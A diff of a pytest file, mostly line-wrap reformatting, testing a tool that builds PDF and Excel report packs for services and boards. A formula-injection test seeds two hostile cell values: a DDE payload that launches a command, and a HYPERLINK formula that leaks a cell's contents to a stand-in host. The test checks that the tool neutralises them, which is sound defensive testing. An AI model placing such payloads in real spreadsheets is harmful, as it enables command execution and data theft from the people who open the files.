@@ -82,8 +82,11 @@ def assert_sheet_matches(rows: list[dict], records: list[dict], spec) -> None:
     for row, record in zip(rows, records, strict=True):
         for column in spec:
             if column.field in record:
-                assert same(row[column.heading], record[column.field]), (column, row[column.heading],
-                                                                         record[column.field])
+                assert same(row[column.heading], record[column.field]), (
+                    column,
+                    row[column.heading],
+                    record[column.field],
+                )
 
 
 def shown(value: float, unit: str) -> set[str]:
@@ -94,8 +97,10 @@ def shown(value: float, unit: str) -> set[str]:
 @pytest.fixture(scope="module")
 def latest(demo_db: Path) -> dict:
     with Store(demo_db, read_only=True) as store:
-        return {"month": periods.month_key(queries.latest_month(store)),
-                "quarter": scrutiny.complete_quarters(store)[-1]}
+        return {
+            "month": periods.month_key(queries.latest_month(store)),
+            "quarter": scrutiny.complete_quarters(store)[-1],
+        }
 
 
 # -- clinic -----------------------------------------------------------------------------------
@@ -105,8 +110,7 @@ def test_clinic_pdf_and_xlsx_hold_the_clinic_report(capsys, demo_db, tmp_path, l
     pdf = pack(capsys, demo_db, tmp_path / "clinic.pdf", "clinic", "--service", SERVICE, "--month", month)
     reader, text = pdf_text(pdf)
     assert 1 < len(reader.pages) <= 8
-    assert "Performance clinic pack: Assessment" in text and periods.month_label(
-        periods.parse_month(month)) in text
+    assert "Performance clinic pack: Assessment" in text and periods.month_label(periods.parse_month(month)) in text
     assert f"from data complete to {periods.month_label(periods.parse_month(month))}" in text
     for row in rows:
         assert row["name"] in text
@@ -116,7 +120,8 @@ def test_clinic_pdf_and_xlsx_hold_the_clinic_report(capsys, demo_db, tmp_path, l
         assert (row["rag"] or "No target") in text
     red_or_concern = [r for r in rows if r["rag"] == "Red" or r["special_cause"] == "concern"]
     assert red_or_concern and len(reader.pages[0].images) + sum(len(p.images) for p in reader.pages[1:]) == len(
-        red_or_concern)  # one SPC chart for each measure that is Red or shows concern
+        red_or_concern
+    )  # one SPC chart for each measure that is Red or shows concern
     assert "Meeting record" in text and "No meeting recorded" in text
     assert "Figures are not disclosure-controlled: do not publish." in text
 
@@ -140,13 +145,33 @@ def test_a_head_of_service_gets_no_other_service_case_detail(capsys, demo_db, tm
     month = periods.parse_month(latest["month"])
     owner = "Zebedee Quillfeather"
     with Store(db) as store:
-        clinic.record_action(store, {"service_id": SERVICE, "clinic_month": month, "owner": owner,
-                                     "description": "Audit the unallocated cases", "due_date": month})
+        clinic.record_action(
+            store,
+            {
+                "service_id": SERVICE,
+                "clinic_month": month,
+                "owner": owner,
+                "description": "Audit the unallocated cases",
+                "due_date": month,
+            },
+        )
         cases = audit_grades.escalations_due(store, month, SERVICE)
     assert not cases.empty
     ad = pack(capsys, db, tmp_path / "ad.pdf", "clinic", "--service", SERVICE, "--month", latest["month"])
-    hos = pack(capsys, db, tmp_path / "hos.pdf", "clinic", "--service", SERVICE, "--month", latest["month"],
-               "--role", "head_of_service", "--scope", OTHER)
+    hos = pack(
+        capsys,
+        db,
+        tmp_path / "hos.pdf",
+        "clinic",
+        "--service",
+        SERVICE,
+        "--month",
+        latest["month"],
+        "--role",
+        "head_of_service",
+        "--scope",
+        OTHER,
+    )
     _, ad_text = pdf_text(ad)
     _, hos_text = pdf_text(hos)
     assert all(ref in ad_text for ref in cases["case_ref"]) and owner in ad_text
@@ -154,8 +179,20 @@ def test_a_head_of_service_gets_no_other_service_case_detail(capsys, demo_db, tm
     assert owner not in hos_text
     assert not any(ref in hos_text for ref in cases["case_ref"])
     assert not any(auditor in hos_text for auditor in cases["auditor"])
-    xlsx = pack(capsys, db, tmp_path / "hos.xlsx", "clinic", "--service", SERVICE, "--month", latest["month"],
-                "--role", "head_of_service", "--scope", OTHER)
+    xlsx = pack(
+        capsys,
+        db,
+        tmp_path / "hos.xlsx",
+        "clinic",
+        "--service",
+        SERVICE,
+        "--month",
+        latest["month"],
+        "--role",
+        "head_of_service",
+        "--scope",
+        OTHER,
+    )
     book = openpyxl.load_workbook(xlsx)
     assert "Inadequate audits" not in book.sheetnames
     assert "owner" not in [c.value for c in book["Actions"][1]]
@@ -164,8 +201,20 @@ def test_a_head_of_service_gets_no_other_service_case_detail(capsys, demo_db, tm
     # Their own service's pack does list its cases.
     with Store(demo_db, read_only=True) as store:
         own = audit_grades.escalations_due(store, month, OTHER)
-    mine = pack(capsys, demo_db, tmp_path / "own.pdf", "clinic", "--service", OTHER, "--month", latest["month"],
-                "--role", "head_of_service", "--scope", OTHER)
+    mine = pack(
+        capsys,
+        demo_db,
+        tmp_path / "own.pdf",
+        "clinic",
+        "--service",
+        OTHER,
+        "--month",
+        latest["month"],
+        "--role",
+        "head_of_service",
+        "--scope",
+        OTHER,
+    )
     assert not own.empty and all(ref in pdf_text(mine)[1] for ref in own["case_ref"])
 
 
@@ -192,8 +241,9 @@ def test_the_scrutiny_pack_never_holds_a_count_of_1_to_5(capsys, demo_db, tmp_pa
         _, full = scrutiny.scrutiny_card(store, quarter, public=False)
     small = full[full["numerator"].between(1, 5) | full["denominator"].between(1, 5)]
     assert not small.empty  # the demo has small counts, so suppression has work to do
-    pdf = pack(capsys, demo_db, tmp_path / "card.pdf", "scrutiny", "--quarter", quarter,
-               "--role", "assistant_director")  # whoever asks: disclosure control is always on
+    pdf = pack(
+        capsys, demo_db, tmp_path / "card.pdf", "scrutiny", "--quarter", quarter, "--role", "assistant_director"
+    )  # whoever asks: disclosure control is always on
     _, text = pdf_text(pdf)
     counts = re.findall(r"\b([\d,]+|c|u) of ([\d,]+|c|u)\b", text)
     assert counts
@@ -225,12 +275,11 @@ def test_board_pack_holds_the_rag_report_and_every_exception(capsys, demo_db, tm
         for row in exceptions:
             frame = board_pack.improvement_board.area_narrative(store, row["area_id"], periods.parse_month(month))
             for item in frame.itertuples():
-                assert " ".join(item.text.split()) in text
+                assert " ".join(item.text.split()).rstrip(".") in text
                 if isinstance(item.evidence, str) and item.evidence:
                     assert f"Evidence: {' '.join(item.evidence.split())}" in text
     xlsx = pack(capsys, demo_db, tmp_path / "board.xlsx", "board", "--month", month)
-    assert_sheet_matches(sheet(xlsx, "Board"), rows, [c for c in board_pack.BOARD_COLUMNS
-                                                       if c.field in rows[0]])
+    assert_sheet_matches(sheet(xlsx, "Board"), rows, [c for c in board_pack.BOARD_COLUMNS if c.field in rows[0]])
 
 
 # -- audits -----------------------------------------------------------------------------------
@@ -288,8 +337,9 @@ def test_every_team_profile_fits_one_page(demo_db, latest):
     with Store(demo_db, read_only=True) as store:
         for team_id in queries.teams(store)["team_id"]:
             for board in (False, True):
-                built = packs.build_pack(store, "team", PackOptions(month=month, team=team_id, notice_board=board),
-                                         Viewer())
+                built = packs.build_pack(
+                    store, "team", PackOptions(month=month, team=team_id, notice_board=board), Viewer()
+                )
                 assert len(PdfReader(io.BytesIO(packs.pack_bytes(built, "pdf"))).pages) == 1, (team_id, board)
 
 
@@ -312,8 +362,11 @@ def test_pdf_is_tagged_for_screen_readers(capsys, demo_db, tmp_path, latest):
             if hasattr(kid, "get_object") and isinstance(kid.get_object(), dict):
                 walk(kid)
 
-    walk(root["/StructTreeRoot"]["/K"][0] if isinstance(root["/StructTreeRoot"]["/K"], list)
-         else root["/StructTreeRoot"]["/K"])
+    walk(
+        root["/StructTreeRoot"]["/K"][0]
+        if isinstance(root["/StructTreeRoot"]["/K"], list)
+        else root["/StructTreeRoot"]["/K"]
+    )
     for tag in ("/Document", "/H1", "/H2", "/H3", "/P", "/Table", "/TR", "/TH", "/TD", "/Figure"):
         assert tag in kinds, tag
     assert any(a.startswith("SPC chart of") for a in alts)
@@ -326,13 +379,20 @@ def test_xlsx_text_never_opens_as_a_formula(capsys, demo_db, tmp_path, latest):
     shutil.copy(demo_db, db)
     month = periods.parse_month(latest["month"])
     with Store(db) as store:
-        clinic.record_action(store, {"service_id": SERVICE, "clinic_month": month, "owner": "=cmd|' /C calc'!A0",
-                                     "description": '=HYPERLINK("http://x.example/?leak="&A1, "Click")',
-                                     "due_date": month})
+        clinic.record_action(
+            store,
+            {
+                "service_id": SERVICE,
+                "clinic_month": month,
+                "owner": "=cmd|' /C calc'!A0",
+                "description": '=HYPERLINK("http://x.example/?leak="&A1, "Click")',
+                "due_date": month,
+            },
+        )
     xlsx = pack(capsys, db, tmp_path / "clinic.xlsx", "clinic", "--service", SERVICE, "--month", latest["month"])
     actions = sheet(xlsx, "Actions")
     texts = [r["description"] for r in actions] + [r["owner"] for r in actions]
-    assert "'=HYPERLINK(\"http://x.example/?leak=\"&A1, \"Click\")" in texts
+    assert '\'=HYPERLINK("http://x.example/?leak="&A1, "Click")' in texts
     assert not any(isinstance(t, str) and t.startswith("=") for t in texts)
     book = openpyxl.load_workbook(xlsx)
     assert not any(c.data_type == "f" for ws in book for r in ws.iter_rows() for c in r)
@@ -355,8 +415,13 @@ def test_progress_is_reported_while_a_pack_is_built(demo_db, latest):
     seen: list[tuple[float, str]] = []
     with Store(demo_db, read_only=True) as store:
         viewer = resolve_viewer(store, "assistant_director")
-        packs.build_pack(store, "clinic", PackOptions(month=periods.parse_month(latest["month"]), service=SERVICE),
-                         viewer, progress=lambda f, m: seen.append((f, m)))
+        packs.build_pack(
+            store,
+            "clinic",
+            PackOptions(month=periods.parse_month(latest["month"]), service=SERVICE),
+            viewer,
+            progress=lambda f, m: seen.append((f, m)),
+        )
     fractions = [f for f, _ in seen]
     assert fractions == sorted(fractions) and fractions[-1] == 1.0 and len(seen) >= 4
     assert any(m.startswith("Drawing the chart for") for _, m in seen)
@@ -365,8 +430,10 @@ def test_progress_is_reported_while_a_pack_is_built(demo_db, latest):
 def test_the_same_pack_gives_the_same_workbook(demo_db, latest):
     month = periods.parse_month(latest["month"])
     with Store(demo_db, read_only=True) as store:
-        first, second = (packs.pack_bytes(packs.build_pack(store, "board", PackOptions(month=month), Viewer()), "xlsx")
-                         for _ in range(2))
+        first, second = (
+            packs.pack_bytes(packs.build_pack(store, "board", PackOptions(month=month), Viewer()), "xlsx")
+            for _ in range(2)
+        )
     assert first == second
     frame = pd.read_excel(io.BytesIO(first), sheet_name="Board")
     assert frame["Priorities"].dtype.kind == "i"  # real numbers, not text
